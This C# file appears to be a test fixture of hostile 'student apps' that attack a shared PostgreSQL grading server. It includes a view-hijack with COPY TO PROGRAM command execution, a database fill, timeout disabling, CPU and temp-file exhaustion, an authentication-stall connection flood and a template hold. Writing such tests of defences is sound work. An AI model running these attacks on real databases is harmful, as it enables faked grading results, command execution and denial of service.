using System.Net.Sockets;
using System.Text;
using Npgsql;

/// <summary>Student apps that attack the shared PostgreSQL server (modes for the hostile-image tests):
/// sql-hijack (plants objects so the SQL checks run its code or read fake rows), db-fill (writes until the
/// database is huge), no-timeout (turns its statement and idle timeouts off, sleeps, burns CPU, sits idle in a
/// transaction and spills to temporary files), pg-flood (holds
/// connections stalled in authentication), template-hold (tries to sit in its assignment's template).</summary>
internal static class HostileDatabaseModes
{
    public static readonly string[] Names = ["sql-hijack", "db-fill", "no-timeout", "pg-flood", "template-hold"];

    /// <summary>What the attack tried, and the SQLSTATE PostgreSQL answered (or "done").</summary>
    private static readonly Dictionary<string, object?> Report = [];

    /// <summary>Runs before the app listens. db-fill never returns.</summary>
    public static async Task BeforeStartAsync(string mode, string connectionString)
    {
        switch (mode)
        {
            case "sql-hijack":
                await using (var db = new NpgsqlConnection(connectionString))
                {
                    await db.OpenAsync();
                    Report["createSchema"] = await TryAsync(db, "CREATE SCHEMA evil");
                    Report["alterDatabase"] = await TryAsync(db, $"ALTER DATABASE \"{db.Database}\" SET search_path = evil, public");
                    // Inside its own schema the app may do DDL: swap the checked table for a view over a
                    // function that fakes the rows and, run by a superuser, runs a command on the host.
                    Report["plantedView"] = await TryAsync(db, $$"""
                        CREATE FUNCTION public.pwn() RETURNS TABLE (id integer, name text, tags text[], created_at timestamptz)
                        LANGUAGE plpgsql AS $f$
                        BEGIN
                            RAISE WARNING 'grader-hijack ran in % as % superuser=%', current_database(), current_user, current_setting('is_superuser');
                            IF current_setting('is_superuser') = 'on' THEN
                                EXECUTE format('COPY (SELECT 1) TO PROGRAM %L', 'cat >/dev/null; id > /tmp/grader-hijack-' || current_database());
                            END IF;
                            RETURN QUERY SELECT g, 'Lifecycle'::text, ARRAY['red', 'green'], now() FROM generate_series(1, 1000) g;
                        END $f$;
                        ALTER TABLE public.items RENAME TO items_real;
                        CREATE VIEW public.items AS SELECT * FROM public.pwn();
                        """);
                }

                break;
            case "db-fill":
                await using (var db = new NpgsqlConnection(connectionString))
                {
                    await db.OpenAsync();
                    await TryAsync(db, "CREATE TABLE fill (id bigint, pad text)");
                    for (var round = 0; ; round++)
                    {
                        // Rows under the TOAST threshold are stored as they are, uncompressed: ~100 MB a round.
                        var error = await TryAsync(db, "INSERT INTO fill SELECT g, repeat('x', 900) FROM generate_series(1, 100000) g");
                        Console.WriteLine($"fill round {round}: {error}");
                        if (error != "done")
                        {
                            await Task.Delay(100);
                            await db.CloseAsync();
                            await db.OpenAsync();
                        }
                    }
                }

            case "no-timeout":
                await using (var db = new NpgsqlConnection(connectionString))
                {
                    await db.OpenAsync();
                    Report["alterRole"] = await TryAsync(db, "ALTER ROLE CURRENT_USER SET statement_timeout = 0");
                }

                break;
            case "pg-flood":
                // Well past the per-container cap, yet far from the server's 300 slots should the cap be missing.
                Report["open"] = await FloodAsync(connectionString, 60);
                break;
        }
    }

    public static void Map(WebApplication app, string mode, string connectionString)
    {
        app.MapGet("/v1/attack", () => Results.Json(Report));
        if (mode == "sql-hijack")
        {
            // Stores nothing and answers as if it had: only a planted view could make the SQL check agree.
            app.MapPost("/v1/fake-items", () => Results.Json(new Dictionary<string, object?>
            {
                ["id"] = 7, ["name"] = "Lifecycle", ["tags"] = new[] { "red", "green" }, ["created_at"] = DateTimeOffset.UtcNow.ToString("O"),
            }, statusCode: 201));
        }

        if (mode == "no-timeout")
        {
            app.MapGet("/v1/slow", async () =>
            {
                await using var db = new NpgsqlConnection(connectionString);
                await db.OpenAsync();
                var set = await TryAsync(db, "SET statement_timeout = 0");
                var sleep = await TryAsync(db, "SELECT pg_sleep(60)");
                return Results.Json(new Dictionary<string, object?> { ["set"] = set, ["sleep"] = sleep });
            });
            // Burns a backend's CPU for hours: a set-returning function in the select list streams, so
            // no temporary file stops it first.
            app.MapGet("/v1/heavy", async () =>
            {
                await using var db = new NpgsqlConnection(connectionString);
                await db.OpenAsync();
                var set = await TryAsync(db, "SET statement_timeout = 0");
                var heavy = await TryAsync(db, "SELECT sum(x) FROM (SELECT generate_series(1, 100000000000) AS x) s");
                return Results.Json(new Dictionary<string, object?> { ["set"] = set, ["heavy"] = heavy });
            });
            // Holds a transaction open and idle, with its own idle timeout off, then tries to go on.
            app.MapGet("/v1/idle/{seconds:int}", async (int seconds) =>
            {
                await using var db = new NpgsqlConnection(new NpgsqlConnectionStringBuilder(connectionString) { Pooling = false }.ConnectionString);
                await db.OpenAsync();
                var set = await TryAsync(db, "SET idle_in_transaction_session_timeout = 0");
                var begin = await TryAsync(db, "BEGIN; SELECT 1");
                await Task.Delay(TimeSpan.FromSeconds(seconds));
                var after = await TryAsync(db, "SELECT 1");
                return Results.Json(new Dictionary<string, object?> { ["set"] = set, ["begin"] = begin, ["after"] = after });
            });
            // Spills a sort to temporary files on the server's disk, after trying to lift the cap on them. Wide
            // rows pass the cap after a few thousand of them, so the limit trips long before the statement
            // timeout even on a starved CI machine (20 million narrow rows once ran into the timeout first).
            app.MapGet("/v1/temp-files", async () =>
            {
                await using var db = new NpgsqlConnection(connectionString);
                await db.OpenAsync();
                var lift = await TryAsync(db, "SET temp_file_limit = -1");
                var spill = await TryAsync(db, "SET work_mem = '64kB'; SELECT count(*) FROM (SELECT repeat(md5(g::text), 64) AS v FROM generate_series(1, 100000) g ORDER BY v DESC) s");
                return Results.Json(new Dictionary<string, object?> { ["lift"] = lift, ["spill"] = spill });
            });
        }

        if (mode == "pg-flood")
        {
            app.MapGet("/v1/hold/{seconds:int}", async (int seconds) =>
            {
                await Task.Delay(TimeSpan.FromSeconds(seconds));
                return Results.Json(Report);
            });
        }

        if (mode == "template-hold")
        {
            app.MapGet("/v1/template", async () =>
            {
                var template = Environment.GetEnvironmentVariable("TEMPLATE_NAME");
                var builder = new NpgsqlConnectionStringBuilder(connectionString) { Database = template, Pooling = false };
                var db = new NpgsqlConnection(builder.ConnectionString);
                try
                {
                    await db.OpenAsync();
                    // Stays connected for the app's life, as a hold would.
                    Report["template"] = "connected";
                }
                catch (PostgresException e)
                {
                    Report["template"] = e.SqlState;
                    await db.DisposeAsync();
                }

                return Results.Json(Report);
            });
        }
    }

    private static async Task<string> TryAsync(NpgsqlConnection db, string sql)
    {
        try
        {
            await using var command = new NpgsqlCommand(sql, db) { CommandTimeout = 120 };
            await command.ExecuteNonQueryAsync();
            return "done";
        }
        catch (PostgresException e)
        {
            return e.SqlState;
        }
        catch (NpgsqlException e)
        {
            return e.GetType().Name;
        }
    }

    /// <summary>Opens connections that send the startup packet, get the SCRAM challenge and then say
    /// nothing, so each holds a backend until the server's authentication_timeout. Returns how many
    /// the server accepted.</summary>
    private static async Task<int> FloodAsync(string connectionString, int count)
    {
        var settings = new NpgsqlConnectionStringBuilder(connectionString);
        var startup = StartupPacket(settings.Username!, settings.Database!);
        var held = new List<TcpClient>();
        for (var i = 0; i < count; i++)
        {
            var tcp = new TcpClient();
            try
            {
                using var timeout = new CancellationTokenSource(TimeSpan.FromSeconds(2));
                await tcp.ConnectAsync(settings.Host!, settings.Port, timeout.Token);
                var stream = tcp.GetStream();
                await stream.WriteAsync(startup, timeout.Token);
                var answer = new byte[1];
                if (await stream.ReadAsync(answer, timeout.Token) == 1 && answer[0] == (byte)'R')
                {
                    held.Add(tcp);
                    continue;
                }
            }
            catch (Exception e) when (e is SocketException or IOException or OperationCanceledException)
            {
            }

            tcp.Dispose();
        }

        Console.WriteLine($"holding {held.Count} connections in authentication");
        GC.KeepAlive(held);
        HeldConnections = held;
        return held.Count;
    }

    private static List<TcpClient> HeldConnections { get; set; } = [];

    private static byte[] StartupPacket(string user, string database)
    {
        var body = Encoding.UTF8.GetBytes($"user\0{user}\0database\0{database}\0\0");
        var packet = new byte[8 + body.Length];
        System.Buffers.Binary.BinaryPrimitives.WriteInt32BigEndian(packet, packet.Length);
        System.Buffers.Binary.BinaryPrimitives.WriteInt32BigEndian(packet.AsSpan(4), 196608);
        body.CopyTo(packet, 8);
        return packet;
    }
}
